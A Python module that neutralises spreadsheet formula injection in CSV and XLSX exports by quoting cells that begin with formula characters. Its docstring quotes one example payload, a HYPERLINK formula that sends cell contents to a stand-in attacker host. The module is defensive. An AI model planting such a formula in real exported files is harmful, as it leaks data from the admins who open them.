"""Files people open in a spreadsheet: no cell may start a formula.

A spreadsheet treats a cell beginning with ``=``, ``+``, ``-`` or ``@`` (and,
in some, a leading tab or carriage return) as a formula, so ticket text such as
``=HYPERLINK("http://evil.example/?"&A1)`` written to a review list would run
when an admin opens it (OWASP "CSV injection"). Every CSV or XLSX file meant
for people goes through :func:`neutralise`, which prefixes such a text with a
single quote: shown as text, and a reader can still see what was written.

Files that only the pipeline reads back (the retraining export) are data, not
reports, and are written as is (docs/SECURITY.md).
"""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any, Iterable, Mapping, Sequence

# OWASP's list, with a line feed and NUL (ASVS 1.2.10) and the full-width forms some
# spreadsheets in East Asian locales turn into the ASCII ones
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def neutralise(value: Any) -> Any:
    """A text cell that cannot start a formula; other values unchanged. Leading spaces are
    looked through (" =1+1": LibreOffice can trim before it evaluates)."""
    if isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_START):
        return "'" + value
    return value


def write_csv(path: str | Path, rows: Iterable[Mapping[str, Any]], fields: Sequence[str]) -> Path:
    """A CSV for people: header ``fields``, every text cell neutralised."""
    path = Path(path)
    with open(path, "w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(fields))
        writer.writerow({f: neutralise(f) for f in fields})
        for row in rows:
            writer.writerow({k: neutralise(v) for k, v in row.items()})
    return path


def neutralise_frame(frame):
    """A copy of a pandas DataFrame with every text cell neutralised (for ``to_excel``)."""
    return frame.map(neutralise)
